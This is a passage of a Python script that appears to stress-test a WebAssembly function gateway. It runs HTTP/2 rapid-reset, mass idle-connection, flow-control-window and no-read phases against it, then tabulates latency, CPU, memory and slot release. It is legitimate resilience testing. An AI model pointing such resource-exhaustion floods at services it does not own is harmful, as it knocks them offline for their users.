        deadline = time.monotonic() + 10.0
        while done != sids and time.monotonic() < deadline:
            s.settimeout(max(0.01, deadline - time.monotonic()))
            data = s.recv(65536)
            if not data:
                break
            for e in c.receive_data(data):
                if isinstance(e, h2.events.ResponseReceived) and dict(e.headers).get(":status") == "200":
                    ok += 1
                elif isinstance(e, h2.events.DataReceived):
                    c.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                    done.add(e.stream_id)
            out = c.data_to_send()
            if out:
                s.sendall(out)
        return slots - ok if done == sids else None
    except (OSError, h2.exceptions.ProtocolError):
        return None
    finally:
        s.close()


def stream_free(target, slots, cap):
    """Checks `stream_busy` until no slot is taken, for at most `cap` seconds: (seconds until
    free or None, busy slots at the first check)."""
    t0 = time.monotonic()
    first = None
    while True:
        busy = stream_busy(target, slots)
        if first is None:
            first = busy
        if busy == 0:
            return time.monotonic() - t0, first
        if time.monotonic() - t0 >= cap:
            return None, first
        time.sleep(0.5)


def cpu_seconds(pid):
    """The gateway's user + system CPU time so far, from /proc/PID/stat."""
    if not pid:
        return None
    try:
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    except (OSError, IndexError, ValueError):
        return None


def calm_down(pid, cap):
    """Waits (at most `cap` seconds) until the gateway uses under a fifth of a core over a second:
    work an attack leaves running after its connections closed is measured here rather than
    charged to the next phase. {busy_s, cpu_s, calm}; None without --pid."""
    if cpu_seconds(pid) is None:
        return None
    t0, c0 = time.monotonic(), cpu_seconds(pid)
    calm = False
    while time.monotonic() - t0 < cap:
        a = cpu_seconds(pid)
        time.sleep(1.0)
        b = cpu_seconds(pid)
        if a is None or b is None:
            break
        if b - a < 0.2:
            calm = True
            break
    c1 = cpu_seconds(pid)
    busy = time.monotonic() - t0 - (1.0 if calm else 0.0)
    return {"busy_s": round(busy, 1), "cpu_s": round((c1 or c0) - c0, 1), "calm": calm}


def run_phase(name, target, args, attack):
    waited = None
    if name in USES_STREAM:
        waited, busy = stream_free(target, args.stream_slots, 40.0)
        if busy:
            log(f"{name}: {busy} of `stream`'s {args.stream_slots} slots busy before the phase; "
                + (f"free after {waited:.1f}s" if waited is not None else "still busy after 40s"))
    log(f"{name}: {args.seconds:.0f}s")
    cpu0 = cpu_seconds(args.pid)
    rss0 = rss_kib(args.pid)
    gauge0 = metric(target, "wasmgate_connections_open")
    log0 = log_lines(args.log)
    t0 = time.monotonic()
    with Probe(args.url, args.pid) as probe:
        if attack:
            try:
                facts = attack(target, args, args.seconds)
            except Exception as e:  # an attack that cannot run is reported, the others still run
                facts = {"outcome": f"attack failed: {type(e).__name__}: {e}"}
        else:
            time.sleep(args.seconds)
            facts = {"outcome": "probe alone"}
        rss1 = rss_kib(args.pid)
        log1 = log_lines(args.log)
        data = probe.finish()
    elapsed = time.monotonic() - t0
    cpu1 = cpu_seconds(args.pid)
    release, after = None, None
    if attack:
        time.sleep(SETTLE)
        if name in FILLS_STREAM:
            release = {"busy_slots": stream_busy(target, args.stream_slots)}
        after = calm_down(args.pid, args.settle_max)
        if release is not None and release["busy_slots"]:
            release["busy_slots_once_calm"] = stream_busy(target, args.stream_slots)
        notes = []
        if release is not None and release["busy_slots"] is not None:
            notes.append(f"{release['busy_slots']}/{args.stream_slots} `stream` slots still busy")
        if after and after["busy_s"] >= 3:
            cores = after["cpu_s"] / after["busy_s"]
            calm = "" if after["calm"] else " (and still busy)"
            notes.append(f"gateway kept {cores:.1f} cores busy for {after['busy_s'] + SETTLE:.0f}s{calm}")
        if notes:
            facts["outcome"] += "; after the close: " + ", ".join(notes)
    gauge2 = metric(target, "wasmgate_connections_open")
    rss2 = rss_kib(args.pid)
    results = data["results"]
    ok = [r[1] for r in results if r[2] == 200]
    errors = [r for r in results if r[2] != 200]
    kinds = {}
    for r in errors:
        k = str(r[2]) if r[2] is not None else r[3]
        kinds[k] = kinds.get(k, 0) + 1
    log_count = None
    if log0 is not None and log1 is not None:
        log_count = log1[1] - log0[1]
    alive = rss_kib(args.pid) is not None if args.pid else None
    phase = {
        "attack": name, "seconds": round(elapsed, 1),
        "probe": {"sent": len(results), "p50_ms": percentile(ok, 50), "p99_ms": percentile(ok, 99),
                  "max_ms": max(ok) if ok else None, "errors": len(errors), "error_kinds": kinds},
        "rss_kib": {"before": rss0, "end": rss1, "peak": data["rss_peak_kib"], "after_cleanup": rss2},
        "connections_open": {"before": gauge0, "after_cleanup": gauge2},
        "gateway_cpu_s": None if cpu0 is None or cpu1 is None else round(cpu1 - cpu0, 1),
        "log_lines": log_count, "gateway_alive": alive, "stream_wait_before_s": waited,
        "stream_after_close": release, "after_close": after, **facts,
    }
    if name == "rapid-reset" and log_count is not None:
        phase["outcome"] += f", {log_count} gateway log lines"
    if alive is False:
        phase["outcome"] += "; **gateway process gone**"
    if phase["gateway_cpu_s"] is not None:
        log(f"{name}: gateway CPU {phase['gateway_cpu_s'] / elapsed:.2f} cores during the phase"
            + (f", {log_count} log lines" if log_count is not None else ""))
    log(f"{name}: {phase['outcome']}")
    return phase


def mib(kib):
    return "n/a" if kib is None else f"{kib / 1024:.0f}"


def ms(v):
    return "n/a" if v is None else f"{v:.1f}"


def table(phases):
    rows = ["| attack | probe p50 ms | probe p99 ms | probe errors | outcome | RSS before→after MiB |",
            "|---|---|---|---|---|---|"]
    for p in phases:
        r = p["rss_kib"]
        outcome = p["outcome"].replace("|", "\\|")
        rows.append(f"| {p['attack']} | {ms(p['probe']['p50_ms'])} | {ms(p['probe']['p99_ms'])} | "
                    f"{p['probe']['errors']}/{p['probe']['sent']} | {outcome} | {mib(r['before'])}→{mib(r['end'])} |")
    return "\n".join(rows)


def raise_nofile(need):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < need:
        new = need if hard == resource.RLIM_INFINITY else min(need, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (new, hard))
        soft = new
    if soft != resource.RLIM_INFINITY and soft < need:
        raise SystemExit(f"open file limit {soft} (hard {hard}) is below the {need} this run needs")


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--url", required=True, help="the gateway, http://HOST:PORT")
    ap.add_argument("--seconds", type=float, default=15.0, help="length of each phase (default 15)")
    ap.add_argument("--only", help="comma-separated attacks to run (default: all): " + ", ".join(ATTACKS))
    ap.add_argument("--json", action="store_true", help="print JSON instead of the markdown table")
    ap.add_argument("--pid", type=int, help="the gateway's process id, for its RSS and CPU time")
    ap.add_argument("--log", help="the gateway's log file, to count the lines each phase writes")
    ap.add_argument("--conns", type=int, default=2000, help="idle-h2 connections (default 2000)")
    ap.add_argument("--streams", type=int, default=100, help="streams for window-zero and window-flip (default 100)")
    ap.add_argument("--noread-conns", type=int, default=10, help="no-read connections per protocol (default 10)")
    ap.add_argument("--rcvbuf", type=int, default=4096, help="SO_RCVBUF of no-read connections (default 4096)")
    ap.add_argument("--chunks", type=int, default=5_000_000,
                    help="lines the stream function writes (~13 bytes each; default 5000000)")
    ap.add_argument("--settle-max", type=float, default=25.0,
                    help="after each attack, how long to wait at most for the gateway's CPU to calm down (default 25)")
    ap.add_argument("--stream-slots", type=int, default=100,
                    help="`stream`'s max_concurrency, to tell whether its calls were released (default 100)")
    ap.add_argument("--no-baseline", action="store_true", help="skip the probe-alone phase")
    args = ap.parse_args()

    names = list(ATTACKS)
    if args.only:
        names = [n.strip() for n in args.only.split(",") if n.strip()]
        unknown = [n for n in names if n not in ATTACKS]
        if unknown:
            raise SystemExit(f"unknown attack(s) {unknown}; known: {', '.join(ATTACKS)}")
    if args.conns + 2 * args.noread_conns + 200 > MAX_SOCKETS:
        raise SystemExit(f"--conns {args.conns} would open more than {MAX_SOCKETS} sockets at once")
    raise_nofile(max(args.conns, 2 * args.noread_conns) + 256)

    target = Target(args.url)
    s = _connect_and_get(target, "/fn/hello")
    try:
        code, _, _ = read_response(s, time.monotonic() + 5)
    finally:
        s.close()
    if code != 200:
        raise SystemExit(f"GET {args.url}/fn/hello answered {code}: deploy `hello` first")
    phases = []
    if not args.no_baseline:
        phases.append(run_phase("baseline", target, args, None))
    for n in names:
        phases.append(run_phase(n, target, args, ATTACKS[n]))
    md = table(phases)
    if args.json:
        print(json.dumps({"url": args.url, "seconds": args.seconds, "phases": phases, "table": md}, indent=2))
    else:
        print(md)


def _connect_and_get(target, path):
    s = target.connect()
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {target.authority}\r\nConnection: close\r\n\r\n".encode())
    return s


if __name__ == "__main__":
    main()
